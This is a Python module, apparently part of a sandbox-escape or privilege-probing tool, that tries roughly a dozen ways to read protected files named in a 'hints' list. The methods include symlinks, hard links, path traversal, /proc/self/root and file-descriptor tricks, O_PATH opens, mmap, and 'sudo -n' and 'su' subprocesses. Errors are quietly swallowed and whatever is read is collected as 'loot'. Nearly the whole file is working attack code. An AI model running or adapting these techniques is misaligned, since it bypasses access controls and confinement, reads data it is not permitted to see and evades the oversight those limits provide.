"""Links, hard links, open directories, `..`, /proc/self/cwd, sendfile, mmap, execve, subprocesses, os.open flags."""
# Row: 10
import loot, mmap, os, subprocess
from hints import HINTS

def ways(path, number):
    yield lambda: os.symlink(path, f"link{number}") or open(f"link{number}", "rb").read()
    yield lambda: os.link(path, f"hard{number}") or open(f"hard{number}", "rb").read()
    yield lambda: open("../" * 12 + path, "rb").read()
    yield lambda: open("/proc/self/cwd/" + "../" * 12 + path, "rb").read()
    yield lambda: open("/proc/self/root" + path, "rb").read()
    yield lambda: open(f"/proc/{os.getpid()}/task/{os.getpid()}/root{path}", "rb").read()
    yield lambda: bytes(mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ))
    yield lambda: os.read(os.open(path, os.O_RDWR), 1 << 16)
    yield lambda: open(os.open(path, 0o10000000), "rb").read()  # O_PATH
    yield lambda: open(f"/proc/self/fd/{os.open(path, 0o10000000)}", "rb").read()
    yield lambda: os.chdir(os.path.dirname(path)) or open(os.path.basename(path), "rb").read()

def strike():
    here = os.getcwd()
    for number, (what, path) in enumerate(HINTS["paths"].items()):
        for way in ways(path, number):
            data = loot.quietly(way)
            if data:
                loot.reached(f"way-{what}")
                loot.sift(data)
            loot.quietly(os.chdir, here)
    for number, path in enumerate(HINTS["paths"].values()):
        loot.quietly(os.unlink, f"link{number}")
        loot.quietly(os.unlink, f"hard{number}")
    paths = list(HINTS["paths"].values())
    loot.sift(loot.quietly(lambda: subprocess.run(["cat", *paths], capture_output=True, timeout=2).stdout) or b"")
    loot.sift(loot.quietly(lambda: subprocess.run(["sudo", "-n", "cat", *paths], capture_output=True, timeout=2).stdout) or b"")
    loot.sift(loot.quietly(lambda: subprocess.run(["su", "-c", "cat " + " ".join(paths)], capture_output=True, timeout=2).stdout) or b"")
